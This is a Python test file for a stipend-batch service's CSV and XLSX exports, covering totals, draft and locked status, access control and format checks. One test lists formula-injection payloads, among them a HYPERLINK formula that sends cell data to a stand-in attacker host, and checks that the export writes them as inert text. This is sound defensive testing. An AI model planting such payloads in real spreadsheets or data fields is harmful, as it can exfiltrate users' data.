"""CSV and XLSX exports, opened and read back: lines, totals, policy versions, DRAFT mark."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from services.incentives.service.exports import COLUMNS, ITEM_COLUMNS, TOTAL_COLUMNS
from shared.contracts.enums import Role
from tests.incentives.factories import BASE, build, cadre, county, finance, posting, unit_tree


@pytest.fixture
async def batch(system):
    await county(system)
    return await build(system, "2026-11")


async def export(system, batch_id, fmt):
    r = await system.client.get(
        f"{BASE}/stipend-batches/{batch_id}/export", params={"format": fmt}, headers=finance(system)
    )
    assert r.status_code == 200, r.text
    return r


def sections(text: str) -> list[list[list[str]]]:
    """The CSV's blank-row separated sections: header, lines, totals."""
    out, current = [], []
    for row in csv.reader(io.StringIO(text)):
        if not row:
            out.append(current)
            current = []
        else:
            current.append(row)
    return [*out, current]


async def test_csv_of_a_draft_reads_back(system, batch):
    r = await export(system, batch["id"], "csv")
    assert r.headers["content-type"].startswith("text/csv")
    assert "stipend-2026-11-draft.csv" in r.headers["content-disposition"]
    text = r.content.decode("utf-8-sig")
    header, lines, totals = sections(text)
    meta = dict(header)
    assert meta["batch_id"] == batch["id"] and meta["month"] == "2026-11"
    assert meta["status"] == "DRAFT (not approved)"
    assert meta["policy_versions"] == ", ".join(batch["policy_versions"])
    assert lines[0] == COLUMNS
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in lines[1:]]
    assert sorted(row["cadre_name"] for row in rows) == ["An", "Bo", "Chen", "Du"]
    net = sum(Decimal(row["net"]) for row in rows)
    assert totals[0] == ["scope", "township_id", "township_name", "lines", "gross",
                         "deductions_total", "net", "deductions_applied",
                         "carried_forward"]  # fmt: skip
    assert COLUMNS[-5:] == ["deductions_applied", "carried_forward", "village_id",
                            "village_name", "township_name"]  # fmt: skip
    du = next(row for row in rows if row["cadre_name"] == "Du")
    assert (du["deductions_applied"], du["carried_forward"]) == ("200.00", "0.00")
    assert (du["village_name"], du["township_name"]) == ("Village B", "Town B")
    total = dict(zip(totals[0], totals[1], strict=True))
    assert total["scope"] == "total" and Decimal(total["net"]) == net == Decimal("8200.00")
    assert total["lines"] == "4"
    towns = [dict(zip(totals[0], row, strict=True)) for row in totals[2:]]
    assert sum(Decimal(t["net"]) for t in towns) == net
    assert {t["township_name"] for t in towns} == {"Town A", "Town B", ""}


async def test_xlsx_of_a_draft_reads_back(system, batch):
    r = await export(system, batch["id"], "xlsx")
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["Summary", "Lines", "Items"]
    head = [list(row) for row in wb["Summary"].iter_rows(values_only=True)]
    assert head[0][0].startswith("DRAFT")
    meta = {row[0]: row[1] for row in head[1:]}
    assert meta["status"] == "DRAFT (not approved)" and meta["batch_id"] == batch["id"]
    assert "posted_subsidy@2018-01-01" in meta["policy_versions"]
    rows = list(wb["Lines"].iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    lines = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert len(lines) == 4
    net = sum(Decimal(str(line["net"])).quantize(Decimal("0.01")) for line in lines)
    at = next(i for i, row in enumerate(head) if row[0] == "scope")
    totals = [dict(zip(TOTAL_COLUMNS, row, strict=False)) for row in head[at + 1 :]]
    assert list(head[at][: len(TOTAL_COLUMNS)]) == TOTAL_COLUMNS
    assert totals[0]["scope"] == "total" and totals[0]["lines"] == 4
    assert Decimal(str(totals[0]["net"])).quantize(Decimal("0.01")) == net == Decimal("8200.00")
    towns = {t["township_name"]: t for t in totals[1:]}
    assert Decimal(str(towns["Town B"]["net"])) == Decimal("1800")
    # Items: one row per component or deduction, with the line it belongs to
    items = [dict(zip(ITEM_COLUMNS, row, strict=True)) for row in
             wb["Items"].iter_rows(min_row=2, values_only=True)]  # fmt: skip
    du = [i for i in items if i["cadre_name"] == "Du"]
    assert [(i["part"], i["kind"], Decimal(str(i["amount"]))) for i in du] == [
        ("component", "posted_subsidy", Decimal("2000")),
        ("deduction", "study_class", Decimal("200")),
    ]
    assert du[0]["village_name"] == "Village B" and du[0]["township_name"] == "Town B"
    assert du[1]["policy_version"] == "study_class@2018-01-01" and du[1]["source_id"]
    for line in lines:  # each line's items add up to it
        mine = [i for i in items if i["cadre_id"] == line["cadre_id"]]
        g = sum(Decimal(str(i["amount"])) for i in mine if i["part"] == "component")
        assert g.quantize(Decimal("0.01")) == Decimal(str(line["gross"])).quantize(Decimal("0.01"))


async def test_locked_exports_carry_status_and_hash(system, batch):
    h = finance(system)
    locked = (
        await system.client.post(f"{BASE}/stipend-batches/{batch['id']}/lock", headers=h)
    ).json()
    header, *_ = sections((await export(system, batch["id"], "csv")).content.decode("utf-8-sig"))
    meta = dict(header)
    assert meta["status"] == "locked" and meta["content_hash"] == locked["content_hash"]
    wb = openpyxl.load_workbook(io.BytesIO((await export(system, batch["id"], "xlsx")).content))
    head = [list(row) for row in wb["Summary"].iter_rows(values_only=True)]
    assert head[0][0] == "batch_id"  # no DRAFT banner
    meta = {row[0]: row[1] for row in head}
    assert meta["content_hash"] == locked["content_hash"] and meta["status"] == "locked"


async def test_export_is_finance_only_and_formats_are_checked(system, batch):
    url = f"{BASE}/stipend-batches/{batch['id']}/export"
    for role in (Role.auditor, Role.org_admin, Role.cadre):
        assert (await system.client.get(url, headers=system.headers(role))).status_code == 403
    r = await system.client.get(url, params={"format": "pdf"}, headers=finance(system))
    assert r.status_code == 422 and r.json()["field"] == "format"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"pay")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
]


async def test_formulas_in_names_are_written_as_text(system):
    units = await unit_tree(system)
    for name in HOSTILE:
        cadre_id, _ = await cadre(system, name=name)
        await posting(system, cadre_id, units["village_a"], start=date(2026, 1, 1))
    batch = await build(system, "2026-11")
    text = (await export(system, batch["id"], "csv")).content.decode("utf-8-sig")
    _, lines, _ = sections(text)
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in lines[1:]]
    assert sorted(row["cadre_name"] for row in rows) == sorted("'" + n for n in HOSTILE)
    assert {row["net"] for row in rows} == {"2000.00"}  # amounts stay plain numbers
    wb = openpyxl.load_workbook(io.BytesIO((await export(system, batch["id"], "xlsx")).content))
    cells = [row[1] for row in wb["Lines"].iter_rows(min_row=2)]
    # XML reads a CR back as LF; what matters is that it is text, not a formula.
    assert sorted(c.value for c in cells) == sorted(n.replace("\r", "\n") for n in HOSTILE)
    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells)
    assert {row[7].data_type for row in wb["Lines"].iter_rows(min_row=2)} == {"n"}
    names = [row[1] for row in wb["Items"].iter_rows(min_row=2)]
    assert len(names) == len(HOSTILE) and all(c.data_type == "s" and c.quotePrefix for c in names)
